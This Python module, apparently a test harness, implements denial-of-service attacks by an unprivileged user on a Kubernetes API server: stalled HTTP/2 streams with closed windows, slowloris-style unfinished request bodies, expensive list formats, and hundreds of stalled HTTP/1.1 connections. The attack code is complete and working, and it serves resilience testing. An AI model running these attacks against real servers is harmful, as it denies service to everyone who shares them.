"""Attacks on a server by a user without rights, one class each: start() begins it, and stop() ends it. Between them a thread of its own keeps it up:
what the server ends is begun again, at most so often a second. What it costs the attacker is bounded, too.

    with attacks.Stalled(client, connections=3, streams=100, **attacks.REVIEW):
        ...                                  # the server, used by others

client is a processes.Client. statuses counts the answers by status, n_begun the requests, n_resets the streams that the server has ended,
n_lost the connections. ready() returns when the attack is fully under way. everything(client, path) makes one of each.
"""

import collections
import json
import socket
import threading
import time

import http2
import processes

ROUND = 0.05  # seconds between two looks at a connection
PER_ROUND = 200  # requests that are begun in one round, of each connection
LIST_TYPES = ["application/yaml", "application/json;pretty=1", "application/vnd.kubernetes.protobuf",
              "application/json;as=Table;v=v1;g=meta.k8s.io"]

# A question that everybody may ask. Its answer is small.
REVIEW = {
    "method": "POST",
    "path": "/apis/authorization.k8s.io/v1/selfsubjectaccessreviews",
    "body": json.dumps({"apiVersion": "authorization.k8s.io/v1", "kind": "SelfSubjectAccessReview",
                        "spec": {"resourceAttributes": {"verb": "get", "resource": "pods", "namespace": "default"}}}).encode(),
}


class Attack:
    def __init__(self, client):
        self.client = client
        self.statuses = collections.Counter()
        self.n_begun = self.n_resets = self.n_lost = 0
        self.trouble = None
        self.is_full = threading.Event()  # all that is to be under way at a time has been begun once
        self.is_over = threading.Event()
        self.thread = None

    def start(self):
        self.thread = threading.Thread(target=self._main, daemon=True)
        self.thread.start()
        return self

    def stop(self):
        self.is_over.set()
        self.thread.join(processes.PATIENCE)
        assert not self.thread.is_alive(), f"{type(self).__name__} does not end"
        if self.trouble:
            raise self.trouble

    def ready(self):
        processes.retry_until(lambda: self.is_full.is_set() or self.trouble, f"{type(self).__name__} is under way")
        return self

    def __enter__(self):
        return self.start()

    def __exit__(self, *_):
        self.stop()

    def __repr__(self):
        return (f"<{type(self).__name__} {self.n_begun} requests, answers {dict(self.statuses)}, {self.n_resets} streams reset, "
                f"{self.n_lost} connections lost>")

    def _main(self):
        try:
            self._attack()
        except Exception as error:  # pylint: disable=broad-except
            self.trouble = error

    def _attack(self):
        raise NotImplementedError


class Streams(Attack):
    """HTTP/2 connections, each with so many streams under way. window: of each stream; None: all is read."""

    def __init__(self, client, path, method="GET", body=None, headers=(), connections=3, streams=100, window=0):
        super().__init__(client)
        self.path, self.method, self.body, self.headers = path, method, body, list(headers)
        self.n_connections, self.n_streams, self.window = connections, streams, window
        if client.token:
            self.headers.append(("authorization", f"Bearer {client.token}"))
        if body is not None:
            self.headers += [("content-type", "application/json"), ("content-length", str(len(body)))]
        self.sessions = []

    def _attack(self):
        self.sessions = [None] * self.n_connections
        try:
            while not self.is_over.is_set():
                for at in range(self.n_connections):
                    self._keep_up(at)
                if all(session and len(session.open) >= self.n_streams for session in self.sessions):
                    self.is_full.set()
                self.is_over.wait(ROUND)
        finally:
            for session in filter(None, self.sessions):
                session.close()

    def _keep_up(self, at):
        try:
            if not self.sessions[at]:
                self.sessions[at] = http2.connect(self.client, window=self.window)
                self.sessions[at].open = []
            session = self.sessions[at]
            self._look(session)
            for _ in range(min(self.n_streams - len(session.open), PER_ROUND)):
                session.open.append(self._begin(session))
            if session.is_closed or session.goaways:
                raise ConnectionResetError
        except OSError:
            self.n_lost += 1
            if self.sessions[at]:
                self.sessions[at].close()
            self.sessions[at] = None

    def _begin(self, session):
        stream = session.begin(self.method, self.path, self.headers, is_over=self.body is None)
        stream.is_counted = False
        self.n_begun += 1
        if self.body is not None:
            session.send(http2.DATA, http2.END_STREAM, stream.number, self.body)
            session.send_window -= len(self.body)
        return stream

    def _look(self, session):
        session.read_what_is_there()
        for stream in session.open:
            if stream.status and not stream.is_counted:
                stream.is_counted = True
                self.statuses[stream.status] += 1
            self.n_resets += bool(stream.reset)
            stream.body.clear()
        for stream in session.open:
            if stream.is_over:
                del session.streams[stream.number]
        session.open = [stream for stream in session.open if not stream.is_over]
        # What a connection has sent the server gives back now and then.
        assert session.send_window > 0 or self.body is None, "the server does not open its window"


class Stalled(Streams):
    """Answers that are never taken: each stream's window is closed from the start."""


class Unfinished(Streams):
    """Writes whose bodies stop after n bytes of the length that they announce. again: those that the server ends are begun once more."""

    def __init__(self, client, n=1, length=2_900_000, connections=3, streams=100, again=True):
        super().__init__(client, REVIEW["path"], "POST", headers=[("content-type", "application/json"), ("content-length", str(length))],
                         connections=connections, streams=streams, window=None)
        self.part, self.again = b" " * n, again

    def _begin(self, session):
        stream = session.begin(self.method, self.path, self.headers, is_over=False)
        stream.is_counted = False
        self.n_begun += 1
        session.send_body(stream, self.part, is_over=False)
        return stream

    def _keep_up(self, at):
        if self.again or not self.is_full.is_set():
            super()._keep_up(at)
        else:
            self._look(self.sessions[at])


class Lists(Streams):
    """One connection asks for one long list after the other, in a form that is expensive to make, and reads them."""

    def __init__(self, client, path, accept, connections=1, streams=100):
        super().__init__(client, path, headers=[("accept", accept), ("accept-encoding", "identity")], connections=connections, streams=streams,
                         window=None)

    def _look(self, session):
        """One that reads does so all the time: at most for a round."""
        deadline = time.monotonic() + ROUND
        while not self.is_over.is_set() and time.monotonic() < deadline:
            before = sum(session.n_frames.values())
            super()._look(session)
            if sum(session.n_frames.values()) == before:
                return


class StalledHttp1(Attack):
    """HTTP/1.1: a connection for each answer that is never taken, with a buffer that is as small as may be."""

    def __init__(self, client, path, connections=400, headers=()):
        super().__init__(client)
        self.path, self.n_connections, self.headers = path, connections, list(headers)
        if client.token:
            self.headers.append(("Authorization", f"Bearer {client.token}"))

    def _attack(self):
        self.context, self.sockets = self.client.make_context(), []
        try:
            while not self.is_over.is_set():
                if len(self.sockets) < self.n_connections:
                    self._begin()
                else:
                    self.is_full.set()
                    self.is_over.wait(ROUND)
                if len(self.sockets) % 50 == 0:
                    self._drop_dead()
        finally:
            for one in self.sockets:
                one.close()

    def _begin(self):
        raw = socket.socket()
        raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        raw.settimeout(processes.PATIENCE)
        try:
            raw.connect((self.client.host, self.client.port))
            one = self.context.wrap_socket(raw, server_hostname=self.client.host)
            fields = "".join(f"{name}: {value}\r\n" for name, value in self.headers)
            one.sendall(f"GET {self.path} HTTP/1.1\r\nHost: {self.client.host}\r\n{fields}\r\n".encode())
            self.n_begun += 1
            self.statuses[int(one.recv(12)[9:] or 0)] += 1
            self.sockets.append(one)
        except (OSError, ValueError):
            raw.close()
            self.n_lost += 1
            self.is_over.wait(ROUND)

    def _drop_dead(self):
        """Those that the server has closed: there is nothing more to read, not even what nobody reads."""
        for one in list(self.sockets):
            try:
                is_dead = one.fileno() < 0 or not socket.socket.recv(one, 1, socket.MSG_PEEK | socket.MSG_DONTWAIT)
            except BlockingIOError:
                is_dead = False
            except (OSError, ValueError):
                is_dead = True
            if is_dead:
                self.sockets.remove(one)
                one.close()
                self.n_lost += 1


def greed(client, large):
    """One user takes all that a user can get of the memory of answers, one way each. large: an object of 1 MB."""
    return {
        "answers": lambda: Stalled(client, large, connections=6, streams=50),
        "turns of YAML": lambda: Lists(client, large + "?resourceVersion=0", "application/yaml", connections=6, streams=50),
    }


def everything(client, path, accept=LIST_TYPES[0]):
    """One of each, not started: B1, B2 and B3. path: a list, or an object of 1 MB, that the user may read."""
    return [
        Stalled(client, connections=3, streams=100, **REVIEW),
        Unfinished(client),
        Stalled(client, path, connections=4, streams=100),
        StalledHttp1(client, path, connections=100),
        Lists(client, path, accept, streams=100),
    ]
